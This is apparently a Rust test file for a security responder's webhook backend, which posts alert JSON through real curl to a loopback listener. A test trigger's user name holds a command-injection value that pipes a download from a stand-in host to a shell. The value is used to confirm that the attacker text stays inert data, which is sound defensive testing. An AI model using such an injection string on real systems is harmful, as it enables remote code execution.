//! The webhook backend against a real `curl` and a local HTTP listener (no network beyond
//! loopback). Skipped with a message when curl is not installed.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::sync::Arc;

use chrono::Utc;
use mamori_event::{Level, RuleId};
use mamori_respond::{
    Mode, Modes, Outcome, Responder, ResponderConfig, ResponsePolicy, Trigger, WebhookUrl,
};

/// Accepts one request, answers `status`, and returns (request line, headers, body).
fn serve_once(
    listener: TcpListener,
    status: &'static str,
) -> std::thread::JoinHandle<(String, Vec<String>, String)> {
    std::thread::spawn(move || {
        let (stream, _) = listener.accept().unwrap();
        let mut reader = BufReader::new(stream.try_clone().unwrap());
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let mut headers = Vec::new();
        let mut len = 0;
        loop {
            let mut h = String::new();
            reader.read_line(&mut h).unwrap();
            let h = h.trim_end().to_owned();
            if h.is_empty() {
                break;
            }
            if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
                len = v.trim().parse().unwrap();
            }
            headers.push(h);
        }
        let mut body = vec![0; len];
        reader.read_exact(&mut body).unwrap();
        let mut stream = stream;
        write!(
            stream,
            "HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        (
            line.trim_end().to_owned(),
            headers,
            String::from_utf8(body).unwrap(),
        )
    })
}

fn responder(url: &str) -> Responder {
    let mut policy = ResponsePolicy {
        webhook_url: Some(WebhookUrl::parse(url).unwrap()),
        ..ResponsePolicy::default()
    };
    policy.levels.insert(
        Level::High,
        Modes {
            webhook: Mode::Automatic,
            ..Modes::default()
        },
    );
    Responder::new(ResponderConfig {
        policy,
        ..ResponderConfig::default()
    })
    .unwrap()
}

fn trigger() -> Trigger {
    Trigger {
        rule_id: RuleId(Arc::from("suspicious-login")),
        level: Level::High,
        source_ip: Some("203.0.113.9".into()),
        // Attacker-controlled text travels as JSON data on stdin, never as an argument.
        user_name: Some("mallory\"; curl evil | sh #".into()),
        host_name: None,
    }
}

fn curl_available() -> bool {
    let ok = Command::new("curl")
        .arg("--version")
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        println!("skipped: curl is not installed");
    }
    ok
}

#[test]
fn webhook_posts_json_with_real_curl() {
    if !curl_available() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = serve_once(listener, "204 No Content");
    let mut r = responder(&format!("http://127.0.0.1:{port}/hooks/mamori?team=soc"));
    let resp = r.respond(&trigger(), false, Utc::now());
    assert_eq!(resp.executed.len(), 1);
    assert_eq!(
        resp.executed[0].outcome,
        Outcome::Ok,
        "{:?}",
        resp.executed[0]
    );
    let (line, headers, body) = server.join().unwrap();
    assert_eq!(line, "POST /hooks/mamori?team=soc HTTP/1.1");
    assert!(
        headers
            .iter()
            .any(|h| h == "Content-Type: application/json"),
        "{headers:?}"
    );
    let json: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(json["rule_id"], "suspicious-login");
    assert_eq!(json["level"], "high");
    assert_eq!(json["entities"]["user.name"], "mallory\"; curl evil | sh #");
}

#[test]
fn webhook_http_error_is_a_failed_outcome() {
    if !curl_available() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = serve_once(listener, "500 Internal Server Error");
    let mut r = responder(&format!("http://127.0.0.1:{port}/hook"));
    let resp = r.respond(&trigger(), false, Utc::now());
    server.join().unwrap();
    let Outcome::Failed { stderr } = &resp.executed[0].outcome else {
        panic!("expected failure: {:?}", resp.executed[0].outcome)
    };
    assert!(
        stderr.contains("exit status 22") && stderr.contains("500"),
        "{stderr}"
    );
}
